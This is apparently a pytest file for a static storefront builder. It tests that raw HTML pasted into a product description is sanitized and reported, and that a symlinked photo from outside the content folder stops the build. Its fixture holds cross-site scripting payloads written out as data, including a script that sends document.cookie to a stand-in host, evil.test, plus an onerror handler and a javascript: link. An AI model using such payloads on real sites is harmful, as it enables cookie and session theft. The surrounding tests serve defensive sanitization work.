"""Content a marketer pastes or links in without knowing what it carries, built end to end on a
copy of the fixture site: raw HTML in a description is cleaned (and said so, by the build and by
`storefront check`); a photo linked from outside the content folder stops the build."""

from __future__ import annotations

import logging
import os
import shutil
from pathlib import Path

import lxml.html
import pytest
from click.testing import CliRunner
from PIL import Image

from storefront.cli import main
from storefront_core.errors import StorefrontError
from tests.sitebuild import build

REPO = Path(__file__).resolve().parents[2]
FIXTURE = REPO / "tests" / "fixtures" / "site"
PASTED = """
<script>new Image().src = "https://evil.test/?c=" + document.cookie</script>

| Part | Weight |
| :-- | --: |
| Tip | 1 g |

<img src="https://cdn.example.com/tip.jpg" alt="The tip" width="640" onerror="alert(1)">

[Manual](https://example.com/manual.pdf), <a href="javascript:alert(2)">free gift</a>

<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="560" height="315"
 title="Unboxing" allowfullscreen></iframe>

<iframe src="https://evil.test/login" width="560" height="315"></iframe>
"""
WARNING = ("content/products/stylus/index.md: description: raw HTML is sanitized; removed "
           '<script>, onerror=, href="javascript:…", <iframe> from evil.test; set '
           "STORE_TRUST_HTML = True in pelicanconf.py to publish it as written")


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """The fixture site with a pasted description (share cards off: not what is tested)."""
    root = tmp_path / "shop"
    shutil.copytree(FIXTURE, root)
    conf = root / "pelicanconf.py"
    text = conf.read_text(encoding="utf-8").replace(
        '_REPO = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", "..", ".."))',
        f"_REPO = {str(REPO)!r}").replace(', "storefront_social_cards"]', "]")
    conf.write_text(text, encoding="utf-8")
    index = root / "content/products/stylus/index.md"
    index.write_text(index.read_text(encoding="utf-8") + PASTED, encoding="utf-8")
    return root


def description(site: Path) -> lxml.html.HtmlElement:
    page = lxml.html.parse(str(site / "products/stylus/index.html")).getroot()
    return page.find_class("product-details__description")[0]


def test_pasted_html_is_published_clean_and_the_build_says_so_once(
        project: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING):
        site = build(project, tmp_path / "out", tmp_path / "cache")
    assert [r.getMessage() for r in caplog.records if "stylus" in r.getMessage()] == [WARNING]
    page = (site / "products/stylus/index.html").read_text(encoding="utf-8")
    assert "evil.test" not in page and "onerror" not in page and "javascript:" not in page
    prose = description(site)
    assert prose.findall(".//script") == []
    assert [a.text for a in prose.iter("a")] == ["Manual", "free gift"]
    assert prose.find(".//a").get("rel") == "noopener noreferrer"
    assert prose.find(".//a[.='free gift']").get("href") is None
    assert [th.get("style") for th in prose.iter("th")] == ["text-align:left", "text-align:right"]
    assert prose.find(".//img").attrib == {"src": "https://cdn.example.com/tip.jpg",
                                           "alt": "The tip", "width": "640"}
    assert [f.get("src") for f in prose.iter("iframe")] == [
        "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"]

    # trusting raw HTML re-renders the page from the same cache, as written, without a warning
    caplog.clear()
    with caplog.at_level(logging.WARNING):
        trusted = build(project, tmp_path / "out", tmp_path / "cache", STORE_TRUST_HTML=True)
    assert not [r for r in caplog.records if "stylus" in r.getMessage()]
    prose = description(trusted)
    assert [s.text.strip() for s in prose.iter("script")] == [
        'new Image().src = "https://evil.test/?c=" + document.cookie']
    assert len(prose.findall(".//iframe")) == 2


def test_check_reports_sanitized_html_and_strict_fails(project: Path) -> None:
    runner = CliRunner()
    relaxed = runner.invoke(main, ["--project", str(project), "check"], catch_exceptions=False)
    assert relaxed.exit_code == 0, relaxed.output
    assert " ".join(relaxed.output.split()).count(WARNING) == 1
    strict = runner.invoke(main, ["--project", str(project), "check", "--strict"],
                           catch_exceptions=False)
    assert strict.exit_code == 1


def test_photo_linked_from_another_home_folder_stops_the_build(project: Path,
                                                               tmp_path: Path) -> None:
    elsewhere = tmp_path / "home" / "someone" / "private.jpg"
    elsewhere.parent.mkdir(parents=True)
    Image.new("RGB", (640, 480), (200, 30, 30)).save(elsewhere, "JPEG")
    top = project / "content/products/stylus/top.jpg"
    top.unlink()
    os.symlink(elsewhere, top)
    with pytest.raises(StorefrontError) as failed:
        build(project, tmp_path / "out", tmp_path / "cache")
    assert [str(p) for p in failed.value.problems] == [
        f'content/products/stylus/index.md:13: images[2].file: "top.jpg" is a link to a file '
        f"outside the content folder ({elsewhere}); copy the photo into the product folder"]
    assert not (tmp_path / "out" / "products" / "stylus").exists()
